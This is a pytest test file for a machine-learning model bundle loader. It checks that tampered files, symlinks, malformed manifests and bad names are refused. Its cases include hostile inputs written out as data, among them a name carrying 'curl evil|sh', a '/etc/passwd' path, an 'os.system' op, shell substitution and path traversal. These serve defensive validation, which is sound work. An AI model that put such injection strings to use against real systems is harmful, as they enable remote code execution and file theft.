import json
import os

import pytest

from linnet.deploy.bundle import check_name, free_place, new_bundle, read_bundle, seal
from linnet.deploy.manifest import manifest_text
from linnet.errors import ProofError, SettingError, WeightsError

FILES = ("README.md", "bundle.json", "model.onnx", "predict.py", "weights.safetensors")


def rewritten(bundle, change):
    """A bundle.json whose own hash is right, but whose content was changed."""
    facts = json.loads((bundle / "bundle.json").read_text(encoding="utf-8"))
    del facts["sha256"]
    change(facts)
    (bundle / "bundle.json").write_text(manifest_text(facts), encoding="utf-8")


def test_read(bundle):
    found = read_bundle(bundle)
    assert found.name == "mobilenetv3_small_035"
    assert found.read("predict.py") == (bundle / "predict.py").read_bytes()
    assert [(r.runtime, r.precision, r.file) for r in found.runtimes] == [("onnx", "fp32", "model.onnx")]


def test_other_files_do_not_matter(bundle):
    (bundle / ".DS_Store").write_bytes(b"x")
    read_bundle(bundle)


@pytest.mark.parametrize("name", FILES)
@pytest.mark.parametrize("place", [0.0, 0.3, 0.999])
def test_one_flipped_bit_in_any_file_is_refused(bundle, name, place):
    data = bytearray((bundle / name).read_bytes())
    data[int(place * len(data))] ^= 4
    (bundle / name).write_bytes(data)
    with pytest.raises(WeightsError, match=name.replace(".", r"\.")):
        read_bundle(bundle)


@pytest.mark.parametrize("name", FILES)
@pytest.mark.parametrize("harm", ["missing", "truncated", "longer", "symlink", "hardlink"])
def test_a_file_that_is_not_the_bundles_own_is_refused(bundle, name, harm, tmp_path):
    path, data = bundle / name, (bundle / name).read_bytes()
    path.unlink()
    (tmp_path / "elsewhere").write_bytes(data)
    if harm == "truncated":
        path.write_bytes(data[:-1])
    elif harm == "longer":
        path.write_bytes(data + b"\n")
    elif harm == "symlink":
        path.symlink_to(tmp_path / "elsewhere")
    elif harm == "hardlink":
        os.link(tmp_path / "elsewhere", path)
    with pytest.raises(WeightsError):
        read_bundle(bundle)


@pytest.mark.parametrize(
    ("change", "error"),
    [
        (lambda f: f.update(classes=["a", "a", "b", "c"]), WeightsError),
        (lambda f: f.update(classes=["a", "b", "c"]), WeightsError),
        (lambda f: f.update(classes="abcd"), WeightsError),
        (lambda f: f.update(classes=[1, 2, 3, 4]), WeightsError),
        (lambda f: f["preprocess"].update(image="64"), WeightsError),
        (lambda f: f["preprocess"].update(colour=True), WeightsError),
        (lambda f: f["arch"]["stages"][0].update(op={"op": "os.system"}), WeightsError),
        (lambda f: f.update(arch=[]), WeightsError),
        (lambda f: f["files"].update({"../../escape": {"bytes": 1, "sha256": "0"}}), WeightsError),
        (lambda f: f["files"].pop("model.onnx"), WeightsError),
        (lambda f: f.update(files=[]), WeightsError),
        (lambda f: f["runtimes"][0].update(file="/etc/passwd"), WeightsError),
        (lambda f: f["runtimes"][0].update(code="x"), WeightsError),
        (lambda f: (f["runtimes"][0].update(precision="fp32;x"), f["certificates"][0].update(precision="fp32;x")), WeightsError),
        (lambda f: f["runtimes"][0].update(runtime="$(x)"), WeightsError),
        (lambda f: f.update(name="x; curl evil|sh #"), WeightsError),
        (lambda f: f.update(name="\x1b[2J"), WeightsError),
        (lambda f: f["runtimes"][0].update(input="float64"), WeightsError),
        (lambda f: f["runtimes"][0].update(more=["model.bin"]), WeightsError),
        (lambda f: f["runtimes"][0].update(more=["README.md"]), ProofError),  # not what the certificate was given to
        (lambda f: f["certificates"][0].update(more={"README.md": "0" * 64}), ProofError),
        (lambda f: f.pop("runtimes"), WeightsError),
        (lambda f: f.update(certificates=[]), ProofError),
        (lambda f: f["certificates"][0].update(passed=False), ProofError),
        (lambda f: f["certificates"][0].update(sha256="0" * 64), ProofError),
        (lambda f: f["certificates"][0].update(precision="int8"), ProofError),
    ],
)  # fmt: skip
def test_a_manifest_that_makes_no_sense_is_refused(bundle, change, error):
    rewritten(bundle, change)
    with pytest.raises(error, match=r"bundle\.json"):
        read_bundle(bundle)


def write(folder, *, during=lambda: None):
    with new_bundle(folder) as place:
        (place / "file").write_bytes(b"x")
        assert not (folder / "file").exists()
        during()


def power_cut():
    raise RuntimeError("power cut")


def test_new_bundle_is_whole_or_absent(tmp_path):
    folder = tmp_path / "a.linnet"
    with pytest.raises(RuntimeError, match="power cut"):
        write(folder, during=power_cut)
    assert list(tmp_path.iterdir()) == []
    write(folder)
    assert (folder / "file").read_bytes() == b"x"
    with pytest.raises(SettingError, match="something there already"):
        write(folder, during=lambda: pytest.fail("must not begin"))
    assert [path.name for path in tmp_path.iterdir()] == ["a.linnet"]


def test_two_writers_do_not_overwrite_each_other(tmp_path):
    folder = tmp_path / "a.linnet"
    with pytest.raises(SettingError, match="meanwhile"):
        write(folder, during=folder.mkdir)
    assert list(folder.iterdir()) == []
    assert [path.name for path in tmp_path.iterdir()] == ["a.linnet"]


def test_seal_reads_what_it_wrote(bundle):
    facts = json.loads((bundle / "bundle.json").read_text(encoding="utf-8"))
    for name in ("sha256", "files", "schema", "kind"):
        del facts[name]
    assert seal(bundle, facts).name == facts["name"]
    facts["certificates"] = []
    with pytest.raises(ProofError):
        seal(bundle, facts)


def test_free_place(tmp_path):
    assert free_place(tmp_path, "net").name == "net.linnet"
    (tmp_path / "net.linnet").mkdir()
    (tmp_path / "net-2.linnet").touch()
    assert free_place(tmp_path, "net").name == "net-3.linnet"


@pytest.mark.parametrize("name", ["", "../x", "a/b", "A", "-x", ".x", "a b", "x" * 65, "a\n"])
def test_names_that_are_refused(name):
    with pytest.raises(SettingError, match="cannot be called"):
        check_name(name)


def test_names():
    assert check_name("efficientnet_b0-2.1") == "efficientnet_b0-2.1"
